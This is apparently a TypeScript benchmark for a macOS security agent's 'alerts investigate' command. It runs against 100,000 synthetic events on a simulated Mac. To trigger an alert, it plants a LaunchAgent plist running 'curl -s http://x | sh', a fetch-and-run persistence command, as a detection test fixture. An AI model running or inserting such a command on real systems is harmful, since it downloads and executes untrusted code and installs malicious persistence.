// `alerts investigate` on a store of 100,000 events, as a person runs it: a process of its own, beside a bare Node.js. All
// events stand within the hours that the questions look through; one in ten within the 10 minutes around the alert.
import { execFileSync } from 'node:child_process';
import { systemClock } from '../../dist/base/clock.js';
import { formatMicros } from '../../dist/base/time.js';
import type { EcsDocument } from '../../dist/event/document.js';
import { openStore } from '../../dist/store/index.js';
import {
  AgentProcess,
  alertsAbout,
  cli,
  launchAgentPlist,
  listAlerts,
  SimulatedMac,
  waitFor,
} from '../simulation/mac.js';
import { launchctl } from '../simulation/scenarios.js';
import { documents } from './documents.js';
import { median, type Row } from './row.js';

const events = 100_000;
const rounds = 7;
const list = '/Users/alice/Library/LaunchAgents/com.example.investigated.plist';

/** Wall-clock milliseconds. */
function timed(run: () => unknown): number {
  const begun = performance.now();
  run();
  return performance.now() - begun;
}

async function attacked(mac: SimulatedMac): Promise<string> {
  const agent = await AgentProcess.start({ mac });
  try {
    mac.write(list, launchAgentPlist('com.example.investigated', ['/bin/sh', '-c', 'curl -s http://x | sh']));
    await launchctl(agent, 20, 'load', list);
    return await waitFor('an alert', () => alertsAbout(listAlerts(mac), list)[0]?.id);
  } finally {
    await agent.stop();
  }
}

function fill(dataDir: string): void {
  const store = openStore({ dataDir, clock: systemClock });
  const now = systemClock.now();
  const docs = documents(1_000) as EcsDocument[];
  try {
    for (let batch = 0; batch < events; batch += 1_000)
      store.events.append(
        docs.map((doc, index) => {
          const number = batch + index;
          // Every tenth lies within the minutes around the alert.
          const time = now - (number % 10 === 0 ? (number * 5_000) % 500e6 : 700e6 + number * 100_000);
          const id = `bench-${number}`;
          const event = { ...doc.event, id };
          return {
            ...{ id, time, nanos: 0, sequence: number },
            doc: { ...doc, '@timestamp': formatMicros(time), event },
          };
        }),
      );
  } finally {
    store.close();
  }
}

export async function rows(): Promise<Row[]> {
  const mac = new SimulatedMac();
  try {
    const id = await attacked(mac);
    fill(mac.dataDir);
    const investigate = () => cli(mac, 'alerts', 'investigate', id, '--json', '--root', mac.root);
    const bare = () => execFileSync(process.execPath, ['-e', '0']);
    investigate();
    const times = Array.from({ length: rounds }, () => [timed(investigate), timed(bare)] as const);
    const value = median(times.map(([own]) => own));
    const against = median(times.map(([, other]) => other));
    return [
      {
        name: `alerts investigate on ${events} events`,
        value,
        unit: 'ms',
        against: 'node -e 0',
        ratio: value / against,
      },
    ];
  } finally {
    mac.remove();
  }
}
